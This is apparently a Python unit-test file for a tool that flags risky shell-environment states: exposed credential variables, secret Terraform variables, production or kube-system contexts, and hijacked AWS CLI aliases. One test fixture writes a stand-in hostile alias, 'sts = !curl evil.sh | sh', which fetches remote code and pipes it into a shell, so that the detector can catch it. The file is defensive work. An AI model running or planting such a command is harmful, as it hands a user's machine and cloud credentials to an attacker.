#!/usr/bin/env python3
"""Unit tests for the sensitive-access signals and their runner (_signal_utils.py).

Each test builds a throwaway home directory; nothing reads the real one.

Run: python3 -m pytest tests/core/test_signals.py -v
  or: python3 tests/core/test_signals.py
"""
import os
import shutil
import sys
import tempfile
import threading
import time
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
import _bootstrap  # noqa: F401, E402

from _signal_utils import (
    SENSITIVE_ACCESS_SIGNALS,
    Signal,
    check_aws_alias_hijack,
    check_dangerous_tf_var,
    check_naked_credentials,
    check_prod_panic,
    check_root_kube_context,
    enabled_signals,
    find_naked_credentials,
    read_current_kube_context,
    read_kube_context_namespaces,
    run_signals,
)

KUBECONFIG_KUBE_SYSTEM = """\
apiVersion: v1
clusters:
- cluster:
    server: https://127.0.0.1:6443
  name: local
contexts:
- context:
    cluster: local
    namespace: kube-system
    user: admin
  name: admin-ctx
- context:
    cluster: local
    user: dev
  name: dev-ctx
current-context: admin-ctx
kind: Config
users:
- name: admin
"""


class HomeDirTestCase(unittest.TestCase):

    def setUp(self):
        self.home = tempfile.mkdtemp(prefix="agentic_signals_")

    def tearDown(self):
        shutil.rmtree(self.home, ignore_errors=True)

    def write_home_file(self, relative, content, mode=None):
        path = Path(self.home) / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
        if mode is not None:
            os.chmod(path, mode)
        return path


# ============================================================
# Environment-only signals
# ============================================================


class TestNakedCredentials(unittest.TestCase):

    def test_known_names(self):
        self.assertTrue(check_naked_credentials({"GITHUB_TOKEN": "ghp_x"}, ""))
        self.assertTrue(check_naked_credentials({"AWS_SECRET_ACCESS_KEY": "x"}, ""))

    def test_suffixes(self):
        self.assertEqual(
            find_naked_credentials({"MY_API_KEY": "x", "DB_PASSWORD": "y", "PATH": "/bin"}),
            ["MY_API_KEY", "DB_PASSWORD"],
        )

    def test_empty_value_ignored(self):
        self.assertFalse(check_naked_credentials({"GITHUB_TOKEN": ""}, ""))

    def test_own_variables_ignored(self):
        self.assertFalse(check_naked_credentials({"DASHLIGHT_API_KEY": "x"}, ""))

    def test_clean_environment(self):
        self.assertFalse(check_naked_credentials({"HOME": "/home/x", "SHELL": "/bin/zsh"}, ""))


class TestDangerousTfVar(unittest.TestCase):

    def test_secret_words(self):
        self.assertTrue(check_dangerous_tf_var({"TF_VAR_db_password": "x"}, ""))
        self.assertTrue(check_dangerous_tf_var({"TF_VAR_AWS_SECRET_KEY": "x"}, ""))

    def test_harmless(self):
        self.assertFalse(check_dangerous_tf_var({"TF_VAR_region": "us-east-1"}, ""))
        self.assertFalse(check_dangerous_tf_var({"DB_PASSWORD": "x"}, ""))


# ============================================================
# Kubeconfig signals
# ============================================================


class TestKubeconfig(HomeDirTestCase):

    def test_current_context(self):
        self.write_home_file(".kube/config", KUBECONFIG_KUBE_SYSTEM)
        self.assertEqual(read_current_kube_context(self.home), "admin-ctx")

    def test_namespaces(self):
        self.write_home_file(".kube/config", KUBECONFIG_KUBE_SYSTEM)
        self.assertEqual(
            read_kube_context_namespaces(self.home),
            {"admin-ctx": "kube-system", "dev-ctx": ""},
        )

    def test_root_kube_context(self):
        self.write_home_file(".kube/config", KUBECONFIG_KUBE_SYSTEM)
        self.assertTrue(check_root_kube_context({}, self.home))

    def test_root_kube_context_other_namespace(self):
        self.write_home_file(
            ".kube/config", KUBECONFIG_KUBE_SYSTEM.replace("current-context: admin-ctx", "current-context: dev-ctx")
        )
        self.assertFalse(check_root_kube_context({}, self.home))

    def test_name_before_context_block(self):
        self.write_home_file(
            ".kube/config",
            "current-context: ops\n"
            "contexts:\n"
            "- name: ops\n"
            "  context:\n"
            "    namespace: kube-system\n",
        )
        self.assertTrue(check_root_kube_context({}, self.home))

    def test_missing_kubeconfig(self):
        self.assertEqual(read_current_kube_context(self.home), "")
        self.assertFalse(check_root_kube_context({}, self.home))

    def test_prod_panic_kube_context(self):
        self.write_home_file(".kube/config", "current-context: PROD-east\n")
        self.assertTrue(check_prod_panic({}, self.home))

    def test_prod_panic_aws_profile(self):
        self.assertTrue(check_prod_panic({"AWS_PROFILE": "company-production"}, self.home))
        self.assertFalse(check_prod_panic({"AWS_PROFILE": "dev"}, self.home))


# ============================================================
# AWS CLI alias file
# ============================================================


@unittest.skipIf(os.name == "nt", "POSIX file modes required")
class TestAwsAliasHijack(HomeDirTestCase):

    def test_no_alias_file(self):
        self.assertFalse(check_aws_alias_hijack({}, self.home))

    def test_core_command_alias(self):
        self.write_home_file(
            ".aws/cli/alias", "[toplevel]\nsts = !curl evil.sh | sh\n", mode=0o600
        )
        self.assertTrue(check_aws_alias_hijack({}, self.home))

    def test_harmless_alias(self):
        self.write_home_file(
            ".aws/cli/alias", "[toplevel]\n# sts = commented\nwhoami = sts get-caller-identity\n", mode=0o600
        )
        self.assertFalse(check_aws_alias_hijack({}, self.home))

    def test_loose_permissions(self):
        self.write_home_file(".aws/cli/alias", "[toplevel]\n", mode=0o644)
        self.assertTrue(check_aws_alias_hijack({}, self.home))

    def test_relative_home_rejected(self):
        self.assertFalse(check_aws_alias_hijack({}, "relative/home"))
        self.assertFalse(check_aws_alias_hijack({}, ""))


# ============================================================
# Registry and runner
# ============================================================


class TestRegistry(unittest.TestCase):

    def test_five_signals_in_order(self):
        self.assertEqual(
            [sig.name for sig in SENSITIVE_ACCESS_SIGNALS],
            [
                "Naked Credential",
                "Dangerous TF_VAR",
                "Prod Panic",
                "Root Kube Context",
                "AWS CLI Alias Hijacking",
            ],
        )

    def test_disable_env_names(self):
        names = {sig.name: sig.disable_env for sig in SENSITIVE_ACCESS_SIGNALS}
        self.assertEqual(names["Prod Panic"], "DASHLIGHTS_DISABLE_PROD_PANIC")
        self.assertEqual(names["AWS CLI Alias Hijacking"], "DASHLIGHTS_DISABLE_AWS_CLI_ALIAS_HIJACKING")

    def test_enabled_signals(self):
        remaining = enabled_signals(SENSITIVE_ACCESS_SIGNALS, {"DASHLIGHTS_DISABLE_PROD_PANIC": "1"})
        self.assertNotIn("Prod Panic", [sig.name for sig in remaining])
        self.assertEqual(len(remaining), 4)

    def test_aws_alias_legacy_toggle(self):
        for env_name in ("DASHLIGHTS_DISABLE_AWS_ALIAS_HIJACK", "DASHLIGHTS_DISABLE_AWS_CLI_ALIAS_HIJACKING"):
            with self.subTest(env=env_name):
                remaining = enabled_signals(SENSITIVE_ACCESS_SIGNALS, {env_name: "1"})
                self.assertEqual(
                    [sig.name for sig in remaining],
                    ["Naked Credential", "Dangerous TF_VAR", "Prod Panic", "Root Kube Context"],
                )

    def test_empty_toggle_keeps_signal(self):
        remaining = enabled_signals(SENSITIVE_ACCESS_SIGNALS, {"DASHLIGHTS_DISABLE_AWS_ALIAS_HIJACK": ""})
        self.assertEqual(len(remaining), 5)


class TestRunSignals(unittest.TestCase):

    def test_fired_in_registry_order(self):
        signals = [
            Signal("One", lambda env, home: True),
            Signal("Two", lambda env, home: False),
            Signal("Three", lambda env, home: True),
        ]
        self.assertEqual(run_signals(signals, {}, "", timeout=2.0), ["One", "Three"])

    def test_empty(self):
        self.assertEqual(run_signals([], {}, ""), [])

    def test_raising_check_counts_as_not_detected(self):
        def boom(env, home):
            raise RuntimeError("broken")

        signals = [Signal("Boom", boom), Signal("Ok", lambda env, home: True)]
        self.assertEqual(run_signals(signals, {}, "", timeout=2.0), ["Ok"])

    def test_hanging_check_abandoned_at_deadline(self):
        release = threading.Event()

        def hang(env, home):
            release.wait(5)
            return True

        signals = [Signal("Hang", hang), Signal("Fast", lambda env, home: True)]
        try:
            start = time.monotonic()
            fired = run_signals(signals, {}, "", timeout=0.2)
            elapsed = time.monotonic() - start
        finally:
            release.set()

        self.assertEqual(fired, ["Fast"])
        self.assertLess(elapsed, 2.0)

    def test_environment_passed_through(self):
        seen = []
        run_signals([Signal("Echo", lambda env, home: seen.append((env["X"], home)))], {"X": "1"}, "/h", timeout=2.0)
        self.assertEqual(seen, [("1", "/h")])


if __name__ == "__main__":
    unittest.main(verbosity=2)
